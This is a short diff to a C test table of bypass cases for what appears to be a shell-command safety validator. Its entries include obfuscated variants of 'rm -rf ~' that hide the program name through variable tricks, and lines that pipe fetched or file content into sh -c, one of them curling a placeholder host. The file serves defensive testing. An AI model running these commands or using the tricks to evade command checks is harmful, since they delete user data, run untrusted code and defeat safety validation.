@@ -229,6 +229,8 @@ static const struct expect bypasses[] = {
 	  "OPTARG=ls; true || OPTARG=echo; getopts a: o -a rm; nice $OPTARG -rf ~"),
 	R("validator.unresolved-program", "x=ls; n=x; export $n=rm; $x -rf ~"),
 	R("validator.unresolved-program", "x=ls; n=x; unset $n; $x rm -rf ~"),
+	R("validator.unresolved-program", "x=ls; x=rm :; $x -rf ~"),
+	R("validator.unresolved-program", "py=ls; true || py=echo; p\\\ny=rm :; timeout 5 $py -rf ~"),
 	R("dangerous.dynamic-code", "curl -s https://x.example | xargs -I{} sh -c {}"),
 	R("dangerous.dynamic-code", "cat cmds | xargs -I{} bash -c '{}'"),
 	R("dangerous.dynamic-code", "cat cmds | xargs -i sh -c 'x; {}'"),
